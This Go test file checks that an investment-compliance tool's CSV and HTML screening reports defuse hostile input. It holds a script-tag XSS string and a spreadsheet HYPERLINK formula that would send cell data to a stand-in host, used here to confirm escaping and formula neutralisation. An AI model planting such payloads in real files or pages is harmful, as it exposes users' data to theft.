package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/shopspring/decimal"

	"github.com/investscreen/investscreen/compliance"
	"github.com/investscreen/investscreen/compliance/report"
	"github.com/investscreen/investscreen/holdings"
	"github.com/investscreen/investscreen/lists"
)

// Hostile account names: markup, and a spreadsheet formula.
const (
	scriptAccount  = `<script>alert(1)</script>`
	formulaAccount = `=HYPERLINK("http://example.invalid/?x="&A1,"click")`
)

// senseTimePath is how the example book's line 2 reaches SenseTime.
var senseTimePath = []string{"ticker 0020 HK", "security master (line 2, equity)", `issuer "SenseTime Group Inc."`,
	`name "sensetime group"`, `name "SENSETIME GROUP LIMITED"`, "NS-CMIC 33114 SENSETIME GROUP LIMITED"}

// exampleReport screens the example book, with its waivers, as of
// 2022-03-01 (findings of every kind: violations, warnings, waived,
// unresolved), plus two SenseTime lots held in hostile accounts.
func exampleReport(t *testing.T) *compliance.Report {
	t.Helper()
	l, err := lists.Embedded()
	if err != nil {
		t.Fatal(err)
	}
	master, err := holdings.LoadMaster("testdata/securities.csv")
	if err != nil {
		t.Fatal(err)
	}
	waivers, err := compliance.LoadWaivers("testdata/waivers.csv")
	if err != nil {
		t.Fatal(err)
	}
	book, err := holdings.LoadPortfolio("testdata/portfolio.csv")
	if err != nil {
		t.Fatal(err)
	}
	next := book.Holdings[len(book.Holdings)-1].Line + 1
	for i, acct := range []string{scriptAccount, formulaAccount} {
		book.Holdings = append(book.Holdings, holdings.Holding{Line: next + i, Account: acct, Ref: holdings.Ref{Ticker: "0020 HK"}, Quantity: decimal.NewFromInt(100), Acquired: holdings.MustDate("2022-03-01")})
	}
	chk, err := compliance.NewWithOptions(lists.NewSet(l), master, compliance.Options{Waivers: waivers})
	if err != nil {
		t.Fatal(err)
	}
	rep := chk.CheckPortfolio(book, holdings.MustDate("2022-03-01"))
	if len(rep.Violations) == 0 || len(rep.Unresolved) == 0 || rep.Counts.Waived == 0 || !rep.HasViolation() {
		t.Fatalf("the example report lacks a kind of finding: %+v", rep.Counts)
	}
	return rep
}

func TestWriteCSV(t *testing.T) {
	rep := exampleReport(t)
	var buf bytes.Buffer
	if err := report.WriteCSV(&buf, rep); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&buf)
	r.FieldsPerRecord = len(report.CSVColumns())
	got, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse back: %v", err)
	}
	// What each row must hold, built from the report field by field.
	want := [][]string{report.CSVColumns()}
	for _, f := range rep.Violations {
		want = append(want, []string{"finding", strconv.Itoa(f.Line), safe(f.Account), f.Rule, f.RuleVersion, string(f.Severity),
			strconv.FormatBool(f.Waived), f.Entity.List, f.Entity.ID, f.Entity.Name, f.MatchedBy,
			f.Path.String(), strings.Join(f.Via, " -> "), f.Weight, f.Message, f.Release.SHA256})
	}
	for _, u := range rep.Unresolved {
		want = append(want, []string{"unresolved", strconv.Itoa(u.Line), safe(u.Account), "unresolved", "", string(u.Severity),
			strconv.FormatBool(u.Waived), "", "", "", "", "", "", "", u.Reason, ""})
	}
	for _, w := range rep.Warnings {
		want = append(want, []string{"warning", "", "", "", "", "", "", "", "", "", "", "", "", "", w, ""})
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("CSV rows (-want +got):\n%s", diff)
	}

	col := map[string]int{}
	for i, c := range got[0] {
		col[c] = i
	}
	var sense, waived, formula, unresolved bool
	for _, row := range got[1:] {
		get := func(c string) string { return row[col[c]] }
		switch {
		case get("kind") == "finding" && get("line") == "2" && get("entity_id") == "33114":
			sense = true
			if get("path") != strings.Join(senseTimePath, " -> ") || get("rule") != "ns-cmic/divestment" || get("account") != "FUND-A" ||
				get("release_sha256") != rep.Lists[0].SHA256 || get("matched_by") != "name" || get("severity") != "warning" {
				t.Errorf("SenseTime row = %q", row)
			}
		case get("kind") == "finding" && get("waived") == "true":
			waived = true
		case get("kind") == "unresolved":
			unresolved = unresolved || get("line") == "16" && strings.Contains(get("message"), "US5949181045")
		}
		if strings.HasPrefix(get("account"), "'=HYPERLINK") {
			formula = true
		}
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("cell %q would run as a spreadsheet formula", cell)
			}
		}
	}
	if !sense || !waived || !formula || !unresolved {
		t.Errorf("rows found: SenseTime %v, waived %v, defused formula account %v, unresolved line 16 %v; want all", sense, waived, formula, unresolved)
	}
}

// safe is what writeCSV must make of a cell that starts a formula.
func safe(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}

// htmlDoc is an HTML page read back: its elements and text.
type htmlDoc struct {
	elements map[string]int      // element name -> count
	attrs    map[string]int      // attribute name -> count
	text     string              // all text, spaces collapsed
	lists    map[string][]string // id or class of an <ol>/<dl> -> its items' text
	paths    [][]string          // each <ol class="path">'s items
	style    string
}

// parseHTML reads page as XML, leniently (HTML void elements and
// entities allowed), and fails on anything not well-formed enough for
// that: unbalanced or mis-nested tags, bad entities.
func parseHTML(t *testing.T, page []byte) *htmlDoc {
	t.Helper()
	dec := xml.NewDecoder(bytes.NewReader(page))
	dec.Strict = false
	dec.AutoClose = xml.HTMLAutoClose
	dec.Entity = xml.HTMLEntity
	doc := &htmlDoc{elements: map[string]int{}, attrs: map[string]int{}, lists: map[string][]string{}}
	var stack []string
	var text strings.Builder
	var item *strings.Builder // the <li>, <dt> or <dd> being read
	var items []string
	var inPath, inStyle bool
	for {
		tok, err := dec.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("the page is not well-formed: %v", err)
		}
		switch tk := tok.(type) {
		case xml.StartElement:
			name := strings.ToLower(tk.Name.Local)
			stack = append(stack, name)
			doc.elements[name]++
			for _, a := range tk.Attr {
				doc.attrs[strings.ToLower(a.Name.Local)]++
				if name == "ol" && a.Name.Local == "class" && a.Value == "path" {
					inPath, items = true, nil
				}
			}
			switch name {
			case "li", "dt", "dd":
				item = &strings.Builder{}
			case "style":
				inStyle = true
			}
		case xml.EndElement:
			name := strings.ToLower(tk.Name.Local)
			if len(stack) == 0 || stack[len(stack)-1] != name {
				t.Fatalf("</%s> closes <%s>", name, strings.Join(stack, "><"))
			}
			stack = stack[:len(stack)-1]
			switch name {
			case "li", "dt", "dd":
				items = append(items, strings.Join(strings.Fields(item.String()), " "))
				item = nil
			case "ol":
				if inPath {
					doc.paths = append(doc.paths, items)
					inPath = false
				}
				items = nil
			case "dl":
				doc.lists["dl"] = append(doc.lists["dl"], items...)
				items = nil
			case "style":
				inStyle = false
			}
		case xml.CharData:
			if inStyle {
				doc.style += string(tk)
				continue
			}
			text.Write(tk)
			text.WriteByte(' ')
			if item != nil {
				item.Write(tk)
			}
		}
	}
	if len(stack) > 0 {
		t.Fatalf("unclosed elements: %v", stack)
	}
	doc.text = strings.Join(strings.Fields(text.String()), " ")
	return doc
}

func TestWriteHTML(t *testing.T) {
	rep := exampleReport(t)
	const source = `<b>book</b>.csv`
	var buf bytes.Buffer
	if err := report.WriteHTML(&buf, source, rep); err != nil {
		t.Fatal(err)
	}
	page := buf.Bytes()
	doc := parseHTML(t, page)

	// Hostile strings are shown as text, never as markup.
	if doc.elements["script"] != 0 || doc.elements["b"] != 0 {
		t.Errorf("elements from the input were not escaped: %d <script>, %d <b>", doc.elements["script"], doc.elements["b"])
	}
	if !bytes.Contains(page, []byte("&lt;script&gt;alert(1)&lt;/script&gt;")) || !strings.Contains(doc.text, scriptAccount) {
		t.Error("the script account is not shown escaped")
	}
	if !strings.Contains(doc.text, "Portfolio "+source+" screened as of 2022-03-01") {
		t.Errorf("no title line for %s as of 2022-03-01 in %.300q", source, doc.text)
	}

	// Self-contained: nothing fetched, nothing run.
	for _, a := range []string{"src", "href", "srcset", "action", "onload", "onerror"} {
		if doc.attrs[a] > 0 {
			t.Errorf("attribute %s in the page: it must need nothing from outside", a)
		}
	}
	for _, e := range []string{"link", "img", "iframe", "object", "embed"} {
		if doc.elements[e] > 0 {
			t.Errorf("element <%s> in the page", e)
		}
	}
	if strings.Contains(doc.style, "url(") || strings.Contains(doc.style, "@import") || !strings.Contains(doc.style, "@media print") {
		t.Error("the style sheet must be inline, fetch nothing, and have print rules")
	}

	// The verdict and the summary.
	if !strings.Contains(doc.text, "FAIL") || strings.Contains(doc.text, "PASS") {
		t.Error("the banner does not say FAIL")
	}
	c := rep.Counts
	wantSummary := []string{"Holdings screened", strconv.Itoa(c.Holdings), "Flagged", strconv.Itoa(c.Flagged), "Violations", strconv.Itoa(c.Violations),
		"Warnings", strconv.Itoa(c.Warnings), "Waived", strconv.Itoa(c.Waived), "Unresolved", strconv.Itoa(c.Unresolved)}
	if diff := cmp.Diff(wantSummary, doc.lists["dl"]); diff != "" {
		t.Errorf("summary (-want +got):\n%s", diff)
	}

	// The SenseTime finding, with its path as numbered steps.
	for _, want := range []string{"Rule ns-cmic/purchase", "Rule ns-cmic/divestment", "NS-CMIC 33114 SENSETIME GROUP LIMITED",
		"Waived by Chief Compliance Officer until 2026-12-31", "US5949181045", rep.Lists[0].SHA256, "Legal source: EO 13959"} {
		if !strings.Contains(doc.text, want) {
			t.Errorf("the page does not show %q", want)
		}
	}
	found := false
	for _, p := range doc.paths {
		found = found || cmp.Equal(p, senseTimePath)
	}
	if !found {
		t.Errorf("no numbered path %q among %q", senseTimePath, doc.paths)
	}
	if len(doc.paths) != len(rep.Violations) {
		t.Errorf("%d paths shown, want one per finding (%d)", len(doc.paths), len(rep.Violations))
	}

	// Violations come first: the purchase rule's section before the
	// divestment rule's.
	if i, j := strings.Index(doc.text, "Rule ns-cmic/purchase"), strings.Index(doc.text, "Rule ns-cmic/divestment"); i > j {
		t.Error("the rule with violations is not listed first")
	}
}

func TestWriteHTMLPass(t *testing.T) {
	rep := &compliance.Report{AsOf: holdings.MustDate("2024-05-01"), Holdings: 3, Counts: compliance.Counts{Holdings: 3},
		Lists: []compliance.ListInfo{{Name: "OFAC Consolidated (non-SDN) List", Source: "x", Entries: 1, SHA256: "abc"}}}
	var buf bytes.Buffer
	if err := report.WriteHTML(&buf, "book.csv", rep); err != nil {
		t.Fatal(err)
	}
	doc := parseHTML(t, buf.Bytes())
	for _, want := range []string{"PASS", "No findings.", "None: every holding was resolved.", "(none)"} {
		if !strings.Contains(doc.text, want) {
			t.Errorf("the page does not show %q", want)
		}
	}
	if strings.Contains(doc.text, "FAIL") {
		t.Error("a clean report says FAIL")
	}
}
